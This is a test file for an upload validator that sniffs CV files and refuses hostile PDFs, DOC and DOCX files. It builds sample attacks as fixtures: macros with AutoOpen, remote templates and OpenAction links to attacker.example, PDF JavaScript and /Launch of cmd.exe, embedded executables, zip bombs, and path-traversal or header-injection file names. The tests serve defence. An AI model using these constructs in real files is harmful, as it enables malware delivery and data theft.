import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import fsp from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, test, vi } from 'vitest';
import {
  compoundFile,
  contentTypesXml,
  docBytes,
  docxBytes,
  elfBytes,
  pdfBytes,
  pdfDocument,
  zipBytes,
} from '../test-support/sample-files.ts';
import { sanitiseOriginalName, sniffFileType, typeFromExtension } from './file-type.ts';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'file-type-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
const write = (bytes: Buffer) => {
  const file = path.join(dir, `f${Math.random()}`);
  fs.writeFileSync(file, bytes);
  return file;
};

test('recognises PDF, DOC (OLE2) and DOCX by content', async () => {
  expect(await sniffFileType(write(pdfBytes()))).toBe('pdf');
  expect(await sniffFileType(write(docBytes()))).toBe('doc');
  expect(await sniffFileType(write(docxBytes()))).toBe('docx');
});

test('a ZIP is DOCX only with both [Content_Types].xml and word/document.xml', async () => {
  expect(
    await sniffFileType(write(zipBytes({ '[Content_Types].xml': 'x', 'xl/workbook.xml': 'x' }))),
  ).toBeNull();
  expect(await sniffFileType(write(zipBytes({ 'word/document.xml': 'x' })))).toBeNull();
});

describe('hostile Word files (issue 11)', () => {
  const MB = 1024 * 1024;
  test('a ZIP with [Content_Types].xml and some word/ entry but no word/document.xml is not DOCX', async () => {
    const fake = zipBytes({ '[Content_Types].xml': contentTypesXml(), 'word/styles.xml': '<w:styles/>' });
    expect(await sniffFileType(write(fake))).toBeNull();
  });

  test('word/document.xml must be declared the main document', async () => {
    const spreadsheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
    const wrong = docxBytes([
      { name: '[Content_Types].xml', data: Buffer.from(contentTypesXml(spreadsheetType)) },
    ]);
    expect(await sniffFileType(write(wrong))).toBeNull();
    const none = docxBytes([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }]);
    expect(await sniffFileType(write(none))).toBeNull();
  });

  test('macros are refused: vbaProject.bin, or a macro-enabled content type', async () => {
    const withVba = docxBytes([{ name: 'word/vbaProject.bin', data: Buffer.from('VBA') }]);
    expect(await sniffFileType(write(withVba))).toEqual({ type: 'docx', refused: 'macros' });
    const docm = docxBytes([
      {
        name: '[Content_Types].xml',
        data: Buffer.from(contentTypesXml('application/vnd.ms-word.document.macroEnabled.main+xml')),
      },
    ]);
    expect(await sniffFileType(write(docm))).toEqual({ type: 'docx', refused: 'macros' });
  });

  test('a zip bomb declaring 2 GiB is refused without inflating anything', async () => {
    const bomb = docxBytes([
      { name: 'word/media/huge.bin', data: Buffer.alloc(1000), deflate: true, declaredSize: 2 * 1024 * MB },
    ]);
    expect(await sniffFileType(write(bomb))).toEqual({ type: 'docx', refused: 'zip-bomb' });
  });

  test('a zip bomb that lies about its size is stopped while inflating', async () => {
    const lying = docxBytes([
      { name: 'word/media/a.bin', data: Buffer.alloc(60 * MB), deflate: true, declaredSize: 1000 },
    ]);
    expect(lying.length).toBeLessThan(MB);
    expect(await sniffFileType(write(lying))).toEqual({ type: 'docx', refused: 'zip-bomb' });
  });

  test('over 100:1 is refused even under 50 MB', async () => {
    const dense = docxBytes([{ name: 'word/media/a.bin', data: Buffer.alloc(20 * MB), deflate: true }]);
    expect(await sniffFileType(write(dense))).toEqual({ type: 'docx', refused: 'zip-bomb' });
  });

  test('a deflated DOCX with a photo in it passes', async () => {
    const photo = randomBytes(300_000); // as incompressible as a JPEG
    const docx = docxBytes([{ name: 'word/media/image1.jpeg', data: photo, deflate: true }]);
    expect(await sniffFileType(write(docx))).toBe('docx');
  });
});

const OLE_OBJECT = 'application/vnd.openxmlformats-officedocument.oleObject';
const relationships = (...items: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

describe('hostile Word files (issue 27)', () => {
  test('a macro part under another name is refused by its content type (Override or Default)', async () => {
    const byOverride = docxBytes([
      {
        name: '[Content_Types].xml',
        data: Buffer.from(
          contentTypesXml().replace(
            '</Types>',
            '<Override PartName="/word/settings-data.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
          ),
        ),
      },
      { name: 'word/settings-data.dat', data: Buffer.from('Attribute VB_Name = "AutoOpen"') },
    ]);
    expect(await sniffFileType(write(byOverride))).toEqual({ type: 'docx', refused: 'macros' });
    const byDefault = docxBytes([
      {
        name: '[Content_Types].xml',
        data: Buffer.from(
          contentTypesXml().replace(
            '</Types>',
            '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
          ),
        ),
      },
      { name: 'word/custom.dat', data: Buffer.from('VBA') },
    ]);
    expect(await sniffFileType(write(byDefault))).toEqual({ type: 'docx', refused: 'macros' });
  });

  test('a remote template or a linked picture (external relationships) is refused; hyperlinks are fine', async () => {
    const template = docxBytes([
      {
        name: 'word/_rels/settings.xml.rels',
        data: Buffer.from(
          relationships(
            `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>`,
          ),
        ),
      },
    ]);
    expect(await sniffFileType(write(template))).toEqual({ type: 'docx', refused: 'external-links' });
    const picture = docxBytes([
      {
        name: 'word/_rels/document.xml.rels',
        data: Buffer.from(
          relationships(
            `<Relationship Id="rId5" Type="${REL}/image" Target="https://tracker.example/p.png" TargetMode='External'/>`,
          ),
        ),
        deflate: true,
      },
    ]);
    expect(await sniffFileType(write(picture))).toEqual({ type: 'docx', refused: 'external-links' });
    const linkedIn = docxBytes([
      {
        name: 'word/_rels/document.xml.rels',
        data: Buffer.from(
          relationships(
            `<Relationship Id="rId9" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/>`,
          ),
        ),
      },
    ]);
    expect(await sniffFileType(write(linkedIn))).toBe('docx');
  });

  test('an embedded OLE object (an executable rides in one) is refused', async () => {
    const embedded = docxBytes([
      {
        name: '[Content_Types].xml',
        data: Buffer.from(
          contentTypesXml().replace(
            '</Types>',
            `<Default Extension="bin" ContentType="${OLE_OBJECT}"/></Types>`,
          ),
        ),
      },
      { name: 'word/embeddings/oleObject1.bin', data: compoundFile({ '/\u0001Ole10Native': 'MZ…' }) },
      {
        name: 'word/_rels/document.xml.rels',
        data: Buffer.from(
          relationships(
            `<Relationship Id="rId7" Type="${REL}/oleObject" Target="embeddings/oleObject1.bin"/>`,
          ),
        ),
      },
    ]);
    expect(await sniffFileType(write(embedded))).toEqual({ type: 'docx', refused: 'embedded' });
  });
});

/** The start of a Windows executable: the DOS header pointing at the PE signature. */
function peBytes(): Buffer {
  const bytes = Buffer.alloc(1024, 0);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes;
}

describe('hostile Word files (issue 42)', () => {
  const ole = () => compoundFile({ '/\u0001Ole10Native': peBytes() });
  test('an OLE object no content type or relationship names is refused', async () => {
    const unnamed = docxBytes([{ name: 'word/embeddings/oleObject1.bin', data: ole(), deflate: true }]);
    expect(await sniffFileType(write(unnamed))).toEqual({ type: 'docx', refused: 'embedded' });
  });

  test('an OLE container or an executable is refused whatever the part is called', async () => {
    for (const [name, data] of [
      ['word/media/image1.png', ole()],
      ['word/media/photo.jpeg', peBytes()],
      ['customXml/item9.xml', elfBytes()],
      ['word/embeddings/notes.txt', Buffer.from('plain words')],
      ['word/setup.exe', Buffer.from('not even an executable')],
    ] as const) {
      const bytes = docxBytes([{ name, data, deflate: true }]);
      expect({ name, verdict: await sniffFileType(write(bytes)) }).toEqual({
        name,
        verdict: { type: 'docx', refused: 'embedded' },
      });
    }
  });

  test('pictures and other binary parts of a plain CV are accepted', async () => {
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomBytes(2048)]);
    const withPicture = docxBytes([
      { name: 'word/media/image1.png', data: png },
      { name: 'word/fonts/font1.odttf', data: randomBytes(4096).fill(0x20, 0, 2), deflate: true },
    ]);
    expect(await sniffFileType(write(withPicture))).toBe('docx');
  });
});

describe('hostile .doc files (issue 27)', () => {
  test('an OLE2 Word document holding VBA (AutoOpen) is refused as macros', async () => {
    const vba = compoundFile({
      '/WordDocument': Buffer.alloc(512, 7),
      '/Macros/VBA/ThisDocument': 'Sub AutoOpen()\nShell "calc"\nEnd Sub',
      '/Macros/VBA/dir': 'x',
      '/Macros/PROJECT': 'ID="{1}"',
    });
    expect(await sniffFileType(write(vba))).toEqual({ type: 'doc', refused: 'macros' });
  });

  test('an OLE2 file that is not a Word document (an MSI installer, a spreadsheet) is nothing', async () => {
    const msi = compoundFile({
      '/\u4840\u3b3f\u4577\u446c\u3b6a\u45e4\u4824': 'tables',
      '/\u0005SummaryInformation': 'Installer',
    });
    expect(await sniffFileType(write(msi))).toBeNull();
    expect(await sniffFileType(write(compoundFile({ '/Workbook': 'cells' })))).toBeNull();
    // A WordDocument stream inside an embedded object does not make the file a Word document.
    expect(await sniffFileType(write(compoundFile({ '/ObjectPool/_1/WordDocument': 'x' })))).toBeNull();
  });

  test('a packaged file inside a .doc (Ole10Native) is refused as embedded', async () => {
    const packaged = compoundFile({
      '/WordDocument': Buffer.alloc(512, 7),
      '/ObjectPool/_1234/\u0001Ole10Native': 'invoice.exe MZ',
    });
    expect(await sniffFileType(write(packaged))).toEqual({ type: 'doc', refused: 'embedded' });
  });

  test('a bare OLE2 signature with junk after it is nothing', async () => {
    const junk = Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(1016, 7),
    ]);
    expect(await sniffFileType(write(junk))).toBeNull();
  });
});

describe('hostile PDFs (issue 27)', () => {
  const refused = (reason: string) => ({ type: 'pdf', refused: reason });

  test.each([
    ['JavaScript on open', { catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }],
    [
      'JavaScript in a referenced action',
      { catalogExtra: '/OpenAction 4 0 R', objects: ['<< /S /JavaScript /JS 5 0 R >>', '(app.alert(1))'] },
    ],
    [
      'a name written with #xx escapes',
      { catalogExtra: '/Names << /J#61vaScript 4 0 R >>', objects: ['<< /Names [] >>'] },
    ],
    ['/Launch on open', { catalogExtra: '/OpenAction << /S /Launch /F (cmd.exe) >>' }],
    [
      '/OpenAction to a web address',
      { catalogExtra: '/OpenAction << /S /URI /URI (http://attacker.example) >>' },
    ],
    ['an XFA form', { catalogExtra: '/AcroForm << /XFA 4 0 R >>', objects: ['<< >>'] }],
  ])('%s is refused as a script', async (_label, options) => {
    expect(await sniffFileType(write(pdfDocument(options)))).toEqual(refused('pdf-script'));
  });

  test('JavaScript hidden in a compressed object stream is found', async () => {
    const inside = Buffer.from('4 0 << /S /JavaScript /JS (app.alert(1)) >>');
    const { deflateSync } = await import('node:zlib');
    const stream = deflateSync(inside).toString('latin1');
    const pdf = pdfDocument({
      objects: [
        `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
      ],
    });
    expect(await sniffFileType(write(pdf))).toEqual(refused('pdf-script'));
  });

  test('an attached file (/EmbeddedFile) is refused', async () => {
    const pdf = pdfDocument({
      catalogExtra: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ],
    });
    expect(await sniffFileType(write(pdf))).toEqual(refused('embedded'));
  });

  test('an HTML/PDF polyglot is refused', async () => {
    const polyglot = pdfDocument({
      objects: ['<< /Length 60 >>\nstream\n<html><script>fetch("/api/staff")</script></html>\nendstream'],
    });
    expect(await sniffFileType(write(polyglot))).toEqual(refused('pdf-script'));
  });

  test('a 5-byte %PDF- file, a PDF without cross-references or %%EOF, and a wrong startxref are damaged', async () => {
    expect(await sniffFileType(write(Buffer.from('%PDF-')))).toEqual(refused('pdf-damaged'));
    const whole = pdfDocument().toString('latin1');
    expect(await sniffFileType(write(Buffer.from(whole.replace(/%%EOF\n$/, ''), 'latin1')))).toEqual(
      refused('pdf-damaged'),
    );
    expect(await sniffFileType(write(Buffer.from(whole.replace(/xref\n0 /, 'nope\n0 '), 'latin1')))).toEqual(
      refused('pdf-damaged'),
    );
    expect(
      await sniffFileType(write(Buffer.from(whole.replace(/startxref\n\d+/, 'startxref\n17'), 'latin1'))),
    ).toEqual(refused('pdf-damaged'));
    expect(await sniffFileType(write(Buffer.from('%PDF-1.7\n% test CV\n%%EOF\n')))).toEqual(
      refused('pdf-damaged'),
    );
  });

  test('an encrypted PDF is refused (its content cannot be checked, nor opened by staff)', async () => {
    const pdf = pdfDocument().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R');
    expect(await sniffFileType(write(Buffer.from(pdf, 'latin1')))).toEqual(refused('pdf-encrypted'));
  });

  test('plain PDFs pass: open at a page, links the reader follows, random binary streams', async () => {
    expect(await sniffFileType(write(pdfDocument({ catalogExtra: '/OpenAction [3 0 R /Fit]' })))).toBe('pdf');
    expect(
      await sniffFileType(
        write(
          pdfDocument({
            objects: [
              '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.linkedin.com/in/me) >> >>',
            ],
          }),
        ),
      ),
    ).toBe('pdf');
    // Compressed image data is binary: a chance /JS or <html in it must not count.
    const noise = Buffer.concat([randomBytes(200_000), Buffer.from('/JS /JavaScript <html>')]).toString(
      'latin1',
    );
    const image = pdfDocument({
      objects: [
        `<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length ${noise.length} >>\nstream\n${noise}\nendstream`,
      ],
    });
    expect(await sniffFileType(write(image))).toBe('pdf');
  });
});

test('a truncated or corrupt ZIP is not DOCX', async () => {
  const docx = docxBytes();
  expect(await sniffFileType(write(docx.subarray(0, docx.length - 30)))).toBeNull();
  const corrupt = Buffer.from(docx);
  corrupt.writeUInt32LE(0xffffffff, corrupt.length - 6); // central directory offset past the end
  expect(await sniffFileType(write(corrupt))).toBeNull();
});

test('executables and tiny files are nothing', async () => {
  expect(await sniffFileType(write(elfBytes()))).toBeNull();
  expect(await sniffFileType(write(Buffer.from('%P')))).toBeNull();
});

test('extensions are matched case-insensitively from an allow-list', () => {
  expect(typeFromExtension('CV.PDF')).toBe('pdf');
  expect(typeFromExtension('cv.docx')).toBe('docx');
  expect(typeFromExtension('cv.pdf.exe')).toBeNull();
  expect(typeFromExtension('cv')).toBeNull();
});

test('original names keep only a clean base name', () => {
  expect(sanitiseOriginalName('../../etc/passwd.pdf')).toBe('passwd.pdf');
  expect(sanitiseOriginalName('C:\\Users\\me\\CV.docx')).toBe('CV.docx');
  expect(sanitiseOriginalName('.htaccess.pdf')).toBe('htaccess.pdf');
  expect(sanitiseOriginalName('a\r\nBcc: x@y.com.pdf')).toBe('aBcc x@y.com.pdf');
  expect(sanitiseOriginalName('履歷.pdf')).toBe('履歷.pdf');
  expect(sanitiseOriginalName('...')).toBe('cv');
  expect(sanitiseOriginalName(`${'a'.repeat(300)}.pdf`)).toHaveLength(104);
});

test('however many CVs arrive at once, at most 2 are read whole for their checks at a time (memory)', async () => {
  // 50 concurrent 4 MB uploads each held a whole copy of its file (and its text) in memory at once: peak RSS
  // grew by ~200 MB (bench:uploads).
  const files = Array.from({ length: 8 }, () => write(pdfBytes(256 * 1024)));
  let open = 0;
  let most = 0;
  const realOpen = fsp.open.bind(fsp);
  const spy = vi.spyOn(fsp, 'open').mockImplementation(async (...args: Parameters<typeof fsp.open>) => {
    const handle = await realOpen(...args);
    open += 1;
    most = Math.max(most, open);
    const close = handle.close.bind(handle);
    handle.close = async () => {
      open -= 1;
      await close();
    };
    return handle;
  });
  try {
    expect(await Promise.all(files.map((file) => sniffFileType(file)))).toEqual(files.map(() => 'pdf'));
  } finally {
    spy.mockRestore();
  }
  expect(most).toBeLessThanOrEqual(2);
});
